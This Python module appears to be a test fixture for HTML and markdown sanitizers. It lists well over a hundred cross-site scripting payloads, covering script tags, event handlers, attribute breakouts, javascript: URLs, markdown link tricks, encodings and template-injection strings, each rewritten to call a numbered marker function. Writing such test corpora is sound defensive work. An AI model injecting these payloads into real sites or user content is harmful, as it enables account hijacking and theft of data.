"""What a stranger may write into a text so that a browser would run it: each calls ``qhit`` with its number when it is run."""

from collections.abc import Iterator

_ELEMENTS = (
    "<script>X()</script>", "<SCRIPT>X()</SCRIPT>", "<scr<script>ipt>X()</scr</script>ipt>", "<script/x>X()</script>", "<script\t>X()</script\n>",
    "</script><script>X()</script>", "</title><script>X()</script>", "</textarea><script>X()</script>", "</style><script>X()</script>", "--><script>X()</script>",
    "]]><script>X()</script>", "<![CDATA[<script>X()</script>]]>", "<noscript><p title='</noscript><script>X()</script>'>", "<svg><script>X()</script></svg>",
    "<svg><script href='data:text/javascript,X()'/></svg>", "<script src='data:text/javascript,X()'></script>", "<script type=module>X()</script>",
    "<template><script>X()</script></template>", "<iframe srcdoc='<script>parent.X()</script>'></iframe>", "<object data='javascript:X()'></object>",
    "<embed src='javascript:X()'>", "<iframe src='javascript:parent.X()'></iframe>", "<iframe src='data:text/html,<script>parent.X()</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=X()&gt;'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=X()>",
    "<base href='javascript:/a/-X()//'>", "<meta http-equiv=refresh content='0;url=javascript:X()'>", "<link rel=stylesheet href='data:text/css,*{background:url(javascript:X())}'>",
    "<style>*{background:url('javascript:X()')}</style>", "<style>@import 'javascript:X()';</style>", "<xml><script>X()</script></xml>",
    "<a href='javascript:X()'>a</a>", "<svg><a xlink:href='javascript:X()'><text>a</text></a></svg>", "<svg><animate attributeName=href values='javascript:X()'/></svg>",
    "<svg><set attributeName=onload to='X()'/></svg>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>X()</script></svg>#x'/></svg>",
    "<form action='javascript:X()'><button>b</button></form>", "<button form=f formaction='javascript:X()'>b</button>", "<portal src='javascript:X()'>", "<frameset onload=X()>",
)  # fmt: skip
_ON_THEIR_OWN = (
    "<img src=x onerror=X()>", "<img src=x onerror='X()'", "<IMG SRC=x OnErRoR=X()>", "<img/src=x/onerror=X()>", "<img\nsrc=x\nonerror=X()>", "<img src=x onerror=&#113;hit(N)>",
    "<svg onload=X()>", "<svg/onload=X()>", "<body onload=X()>", "<input autofocus onfocus=X()>", "<select autofocus onfocus=X()>", "<textarea autofocus onfocus=X()>",
    "<details open ontoggle=X()>", "<video><source onerror=X()></video>", "<audio src=x onerror=X()>", "<marquee onstart=X()>", "<p onmouseover=X()>p</p>", "<div style='animation:a' onanimationstart=X()>",
    "<object data=x onerror=X()>", "<iframe onload=parent.X()></iframe>", "<link rel=stylesheet href=x onerror=X()>", "<image src=x onerror=X()>", "<isindex autofocus onfocus=X()>",
    "<div popover id=p onbeforetoggle=X()>", "<p contenteditable autofocus onfocus=X()>", "<p tabindex=1 autofocus onfocus=X()>", "<keygen autofocus onfocus=X()>", "<style onload=X()></style>", "<x oncontentvisibilityautostatechange=X() style='content-visibility:auto'>",
)  # fmt: skip
_OUT_OF_AN_ATTRIBUTE = (
    '" onmouseover="X()', "' onmouseover='X()", '"><img src=x onerror=X()>', "'><img src=x onerror=X()>", '" autofocus onfocus=X() x="', "' autofocus onfocus=X() x='", "`><img src=x onerror=X()>",
    '"><svg onload=X()>', '">--><img src=x onerror=X()>', "x onerror=X()", '\\"><img src=x onerror=X()>', "&quot;><img src=x onerror=X()>", '"/><script>X()</script>', '" style="animation:a" onanimationstart="X()',
)  # fmt: skip
_MARKDOWN = (
    "[a](javascript:X())", "[a](JaVaScRiPt:X())", "[a](java\tscript:X())", "[a](&#106;avascript:X())", "[a](javascript&colon;X())", "[a]( javascript:X())", "[a](<javascript:X()>)", "[a](\x01javascript:X())".replace("\x01", "&#1;"),
    "[a](data:text/html,<script>X()</script>)", "[a](vbscript:X())", "![a](javascript:X())", '![a](x" onerror="X())', '![" onerror="X()](x)', '[a](x "\\" onmouseover=\\"X()")', "<javascript:X()>", '<https://a.cn/" onmouseover="X()>',
    "[a][1]\n\n[1]: javascript:X()", "[a]: javascript:X()\n\n[a]", "**<img src=x onerror=X()>**", "`<img src=x onerror=X()>`", "    <script>X()</script>", "# <img src=x onerror=X()>", "| a |\n| - |\n| <img src=x onerror=X()> |",
    "\\<img src=x onerror=X()>", "&lt;img src=x onerror=X()&gt;", "&#60;img src=x onerror=X()>", "&#x3c;script&#x3e;X()&#x3c;/script&#x3e;", "%3Cscript%3EX()%3C/script%3E", "\\u003cscript\\u003eX()\\u003c/script\\u003e", "\\x3cscript\\x3eX()",
    "[a](//evil.example/X())", "[a](https://a.cn@evil.example/X())", "[a](/\\evil.example/X())", "a{: onmouseover=X() }", "a{: href=javascript:X() }", "[a](x){: onclick=X() }",
)  # fmt: skip
_TEMPLATES = (
    "{{ qhit(N) }}", "{% raw %}X(){% endraw %}", "{{ ''.__class__.__mro__ }}X()", "{{ cycler.__init__.__globals__.os }}X()", "${X()}", "#{X()}", "<%= X() %>", "{{constructor.constructor('X()')()}}",
    "';X();//", '";X();//', "`;X();//", "</script>';X();//", "\\';X();//", "*/X()/*", "-X()-", "\u2028X()\u2029".replace("\u2028", "&#8232;").replace("\u2029", "&#8233;"), "javascript:X()", "data:text/html,<script>X()</script>",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """Give all, each with its own number."""
    for n, one in enumerate((*_ELEMENTS, *_ON_THEIR_OWN, *_OUT_OF_AN_ATTRIBUTE, *_MARKDOWN, *_TEMPLATES)):
        yield one.replace("X()", f"qhit({n})").replace("(N)", f"({n})")
